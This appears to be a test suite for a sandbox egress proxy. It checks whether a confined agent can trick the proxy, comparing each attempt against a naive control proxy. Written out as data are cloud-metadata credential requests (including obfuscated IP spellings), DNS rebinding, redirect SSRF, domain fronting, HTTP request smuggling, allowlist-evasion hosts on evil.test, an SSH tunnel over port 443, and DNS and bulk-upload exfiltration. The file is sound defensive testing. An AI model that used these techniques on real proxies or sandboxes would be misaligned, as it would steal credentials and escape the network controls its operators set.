// Can an agent get the proxy to bring it where it may not go, or to carry out what it may not send?
import { once } from "node:events";
import { mkdirSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { join } from "node:path";
import { type EgressOptions, startEgress } from "../../functions/sandbox/egress.ts";
import { readHello } from "../../functions/sandbox/egress-hello.ts";
import { sayHello } from "../sandbox/hello.ts";
import type { Field, Program } from "./field.ts";
import { leadTo, startNaiveProxy } from "./naive-proxy.ts";
import type { Vector } from "./vector.ts";

const hidden = "hidden.test";

/** Says these bytes to the proxy's socket, and prints what comes back. */
const speak = (bytes: Buffer): Program => ({
  language: "node",
  source: `import { readFileSync } from "node:fs";
    import { connect } from "node:net";
    const socket = connect("/run/drover/egress.sock");
    socket.on("data", (bytes) => process.stdout.write(bytes)).on("error", () => undefined).on("end", () => socket.end());
    socket.setTimeout(2500, () => socket.destroy());
    socket.write(readFileSync("bytes"));`,
  files: { bytes },
});

/** A server of several names, of which one is not for the sandbox; it reads requests as generously as the worst. */
function serveNames(field: Field): Server {
  return createHttpServer({ insecureHTTPParser: true }, (request, response) => {
    const isHidden = request.headers.host?.startsWith(hidden) || request.url?.startsWith("/latest/meta-data");
    request.resume().on("end", () => response.end(isHidden ? field.secret : "public"));
  });
}

/** The same for TLS: which of its names is wanted stands in the first message. */
function serveTls(field: Field): Server {
  return createServer((socket) => {
    socket
      .on("error", () => undefined)
      .once("data", (bytes) => {
        const hello = readHello(bytes);
        socket.end(hello.kind === "hello" && hello.serverName === hidden ? field.secret : "public");
      });
  });
}

/** Whoever gets here has won. */
const serveAnyone = (field: Field): Server =>
  createServer((socket) => void socket.on("error", () => undefined).once("data", () => socket.end(field.secret)));

async function listen(field: Field, server: Server, host = "127.0.0.1", port = 0): Promise<number> {
  server.listen(port, host);
  await once(server, "listening");
  field.undo(() => server.close());
  return (server.address() as AddressInfo).port;
}

interface Trick {
  attack: string;
  heldBy: string;
  needs?: Vector["needs"];
  server(field: Field): Server;
  /** What is said to the proxy; the server listens on that port. */
  say(port: number): string | Promise<Buffer>;
  options?(port: number): Partial<EgressOptions>;
  won?(field: Field, printed: string): boolean;
  /** What the proxy of the control makes of a head. */
  rewrite?(head: string): string;
}

const saysSecret = (field: Field, printed: string) => printed.includes(field.secret);

/** `inside.test` may be reached on the server's port, `open.test` on the usual ones. All names lead to this machine. */
function throughProxy(trick: Trick): Vector {
  const { attack, heldBy, needs = [], won = saysSecret } = trick;
  const attempt = async (field: Field, guarded: boolean) => {
    const port = await listen(field, trick.server(field));
    const folder = field.nextFolder();
    const sockets = join(folder.root, "sockets/workspace");
    mkdirSync(sockets, { recursive: true });
    const path = join(sockets, "egress.sock");
    const proxy = guarded
      ? await startEgress(path, {
          rules: { allow: ["open.test", "*.wide.test"], allowPrivate: [`inside.test:${port}`] },
          resolve: async () => ["127.0.0.1"],
          onRefused: () => undefined,
          maxUploadBytes: 1_000_000,
          ...trick.options?.(port),
        })
      : await startNaiveProxy(path, leadTo(port), trick.rewrite);
    field.undo(() => proxy.close());
    const printed = await field.confined(speak(asBytes(await trick.say(port))), { folder });
    return won(field, printed);
  };
  return { attack, heldBy, needs, run: (field) => attempt(field, true), control: (field) => attempt(field, false) };
}

const asBytes = (said: string | Buffer) => (typeof said === "string" ? Buffer.from(said, "latin1") : said);
const get = (url: string, host: string) => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;
const metadataPath = "/latest/meta-data/";
const spellings = [
  "2852039166",
  "0xa9fea9fe",
  "0251.0376.0251.0376",
  "169.254.43518",
  "[::ffff:169.254.169.254]",
  "[64:ff9b::a9fe:a9fe]",
];

/** Several requests, of which one that is answered will do. */
function throughProxyAny(attack: string, heldBy: string, server: Trick["server"], lines: string[]): Vector {
  const tricks = lines.map((line) => throughProxy({ attack, heldBy, server, say: () => line }));
  const any = async (field: Field, which: "run" | "control") => {
    for (const trick of tricks) if (await trick[which](field)) return true;
    return false;
  };
  return { attack, heldBy, run: (field) => any(field, "run"), control: (field) => any(field, "control") };
}

const smuggled = `GET / HTTP/1.1\r\nHost: ${hidden}\r\n\r\n`;

export const proxyVectors: Vector[] = [
  throughProxyAny(
    "have the proxy fetch cloud credentials by address",
    "names only, judged before anything is connected to",
    serveNames,
    [
      get(`http://169.254.169.254${metadataPath}`, "169.254.169.254"),
      get(`http://[fd00:ec2::254]${metadataPath}`, "[fd00:ec2::254]"),
      `CONNECT 169.254.169.254:80 HTTP/1.1\r\n\r\n${get(metadataPath, "169.254.169.254")}`,
      `CONNECT [fd00:ec2::254]:80 HTTP/1.1\r\n\r\n${get(metadataPath, "x")}`,
    ],
  ),
  throughProxyAny(
    "have the proxy fetch cloud credentials by another spelling of the address",
    "names only, and a name never ends in a number",
    serveNames,
    spellings.flatMap((host) => [
      get(`http://${host}${metadataPath}`, host),
      `CONNECT ${host}:80 HTTP/1.1\r\n\r\n${get(metadataPath, host)}`,
    ]),
  ),
  {
    ...throughProxy({
      attack: "reach the metadata address by an allowed name that leads to it",
      heldBy: "addresses that are judged after the name is resolved",
      server: serveNames,
      say: () => get(`http://open.test${metadataPath}`, "open.test"),
      options: () => ({ resolve: async () => ["169.254.169.254"] }),
    }),
  },
  throughProxy({
    attack: "reach the machine's loopback by an allowed name that leads to it",
    heldBy: "addresses that are judged after the name is resolved",
    server: serveAnyone,
    say: (port) => `CONNECT open.test:${port} HTTP/1.1\r\n\r\nhello`,
    options: (port) => ({ rules: { allow: [`open.test:${port}`] } }),
  }),
  {
    attack: "have an allowed name lead elsewhere between the check and the connection (rebinding)",
    heldBy: "a connection to the very address that was judged",
    run: (field) => rebind(field, true),
    control: (field) => rebind(field, false),
  },
  throughProxy({
    attack: "ask an allowed address for another name by the host header of a plain request",
    heldBy: "a host header that is made from the URL",
    server: serveNames,
    say: (port) => get(`http://inside.test:${port}/`, hidden),
  }),
  throughProxy({
    attack: "ask an allowed address for another name by the name in TLS (domain fronting)",
    heldBy: "the first message of TLS, which must name what was asked for",
    server: serveTls,
    say: async (port) =>
      Buffer.concat([Buffer.from(`CONNECT inside.test:${port} HTTP/1.1\r\n\r\n`), await sayHello(hidden)]),
  }),
  {
    attack: "use an allowed HTTPS port for something else than TLS",
    heldBy: "the first message of TLS, without which nothing passes on port 443",
    needs: ["root"],
    run: (field) => speakOtherwise(field, true),
    control: (field) => speakOtherwise(field, false),
  },
  throughProxy({
    attack: "hide a second request in the body of a first whose length `connection` calls its own",
    heldBy: "a body that is framed as it came",
    server: serveNames,
    // A proxy that keeps to the letter of the standard, and forgets the body.
    rewrite: (head) => head.replace(/Content-Length: \d+\r\n/, ""),
    say: (port) =>
      `GET http://inside.test:${port}/ HTTP/1.1\r\nHost: x\r\nConnection: content-length\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
  }),
  throughProxy({
    attack: "hide a second request behind two frames that disagree (length and chunks)",
    heldBy: "a parser that refuses both at once",
    server: serveNames,
    say: (port) =>
      `POST http://inside.test:${port}/ HTTP/1.1\r\nHost: x\r\nContent-Length: ${5 + smuggled.length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
  }),
  throughProxy({
    attack: "send a second request to a name that is not allowed on the connection of a first",
    heldBy: "each request judged by itself",
    server: serveNames,
    say: (port) => `GET http://inside.test:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n${smuggled}`,
  }),
  throughProxyAny(
    "pass for an allowed name by beginning or ending like one",
    "names compared as a whole",
    serveAnyone,
    [
      "CONNECT open.test.evil.test:443 HTTP/1.1\r\n\r\nhello",
      "CONNECT evilopen.test:443 HTTP/1.1\r\n\r\nhello",
      "CONNECT wide.test.evil.test:443 HTTP/1.1\r\n\r\nhello",
      get("http://open.test@evil.test/", "open.test"),
      get("http://evil.test/?open.test", "open.test"),
    ],
  ),
  throughProxyAny(
    "reach another port of an allowed host, such as its shell or its mail",
    "ports that belong to the rule",
    serveAnyone,
    [
      "CONNECT open.test:22 HTTP/1.1\r\n\r\nhello",
      "CONNECT open.test:25 HTTP/1.1\r\n\r\nhello",
      get("http://open.test:8080/", "open.test"),
    ],
  ),
  {
    attack: "have a server redirect the proxy to an address that is not allowed",
    heldBy: "redirects left to the client, which has to ask again",
    run: (field) => redirect(field, true),
    control: (field) => redirect(field, false),
  },
  {
    attack: "carry out what it has stolen in names that the proxy looks up",
    heldBy: "the allowlist, which comes before the name server",
    run: (field) => lookUp(field, []),
    // With a wildcard its owner learns the names below it: that is what it allows.
    control: (field) => lookUp(field, ["*.evil.test"]),
  },
  {
    attack: "send the whole workspace out through an allowed host",
    heldBy: "an end to what a sandbox may send",
    run: (field) => upload(field, 1_000_000),
    control: (field) => upload(field, 100_000_000),
  },
];

async function place(field: Field) {
  const folder = field.nextFolder();
  mkdirSync(join(folder.root, "sockets/workspace"), { recursive: true });
  return { folder, path: join(folder.root, "sockets/workspace/egress.sock") };
}

/** The first answer of the name server is harmless, every later one leads to the machine. */
async function rebind(field: Field, guarded: boolean): Promise<boolean> {
  const port = await listen(field, serveAnyone(field));
  const { folder, path } = await place(field);
  let answers = 0;
  const resolve = async () => (answers++ === 0 ? ["192.0.2.1"] : ["127.0.0.1"]);
  // 192.0.2.1 stands for a public address: nobody is there.
  const rules = { allow: [], allowPrivate: [`inside.test:${port}`] };
  const proxy = guarded
    ? await startEgress(path, { rules, resolve, onRefused: () => undefined, maxUploadBytes: 1e6 })
    : await startNaiveProxy(path, async (asked) => {
        await resolve();
        const [address = ""] = await resolve();
        const socket = connect({ host: address, port: asked.port });
        await once(socket, "connect");
        return socket;
      });
  field.undo(() => proxy.close());
  const printed = await field.confined(speak(Buffer.from(`CONNECT inside.test:${port} HTTP/1.1\r\n\r\nhello`)), {
    folder,
  });
  return printed.includes(field.secret);
}

/** A loopback address of its own, since the port is not. */
async function speakOtherwise(field: Field, guarded: boolean): Promise<boolean> {
  const address = `127.${[1, 2, 3].map(() => 1 + Math.floor(Math.random() * 250)).join(".")}`;
  await listen(field, serveAnyone(field), address, 443);
  const { folder, path } = await place(field);
  const rules = { allow: [], allowPrivate: ["inside.test:443"] };
  const proxy = guarded
    ? await startEgress(path, {
        rules,
        resolve: async () => [address],
        onRefused: () => undefined,
        maxUploadBytes: 1e6,
      })
    : await startNaiveProxy(path, leadTo(443, address));
  field.undo(() => proxy.close());
  const bytes = Buffer.from("CONNECT inside.test:443 HTTP/1.1\r\n\r\nSSH-2.0-tunnel\r\n");
  return (await field.confined(speak(bytes), { folder })).includes(field.secret);
}

async function redirect(field: Field, guarded: boolean): Promise<boolean> {
  const target = await listen(field, serveNames(field));
  const location = `http://169.254.169.254${metadataPath}`;
  const port = await listen(
    field,
    createHttpServer((_, response) => void response.writeHead(302, { location }).end()),
  );
  const { folder, path } = await place(field);
  const rules = { allow: [], allowPrivate: [`inside.test:${port}`] };
  const proxy = guarded
    ? await startEgress(path, {
        rules,
        resolve: async () => ["127.0.0.1"],
        onRefused: () => undefined,
        maxUploadBytes: 1e6,
      })
    : // A proxy that follows by itself: its client asks for one place and gets the other.
      await startNaiveProxy(path, async () => leadTo(target)());
  field.undo(() => proxy.close());
  const follow: Program = {
    language: "node",
    source: `import { request } from "node:http";
      const ask = (url) => new Promise((done) => request({ socketPath: "/run/drover/egress.sock", path: url, headers: { host: "x" } }, async (response) => {
        let text = ""; for await (const chunk of response) text += chunk;
        console.log(response.statusCode, text); done(response.headers.location);
      }).on("error", () => done(undefined)).end());
      const next = await ask("http://inside.test:${port}/latest/meta-data/"); if (next) await ask(next);`,
  };
  return (await field.confined(follow, { folder })).includes(field.secret);
}

async function lookUp(field: Field, allow: string[]): Promise<boolean> {
  const { folder, path } = await place(field);
  const asked: string[] = [];
  const resolve = async (name: string) => {
    asked.push(name);
    return [];
  };
  const proxy = await startEgress(path, { rules: { allow }, resolve, onRefused: () => undefined, maxUploadBytes: 1e6 });
  field.undo(() => proxy.close());
  const name = `${field.secret}.evil.test`;
  await field.confined(speak(Buffer.from(`CONNECT ${name}:443 HTTP/1.1\r\n\r\n`)), { folder });
  return asked.some((one) => one.includes(field.secret));
}

/** Three megabytes, where one is allowed. */
async function upload(field: Field, maxUploadBytes: number): Promise<boolean> {
  let heard = 0;
  const server = createServer((socket) => {
    socket
      .on("error", () => undefined)
      .on("data", (bytes) => {
        heard += bytes.length;
      });
  });
  const port = await listen(field, server);
  const { folder, path } = await place(field);
  const rules = { allow: [], allowPrivate: [`inside.test:${port}`] };
  const proxy = await startEgress(path, {
    rules,
    resolve: async () => ["127.0.0.1"],
    onRefused: () => undefined,
    maxUploadBytes,
  });
  field.undo(() => proxy.close());
  const head = `CONNECT inside.test:${port} HTTP/1.1\r\n\r\n`;
  await field.confined(speak(Buffer.concat([Buffer.from(head), Buffer.alloc(3_000_000, "x")])), { folder });
  return heard >= 3_000_000;
}
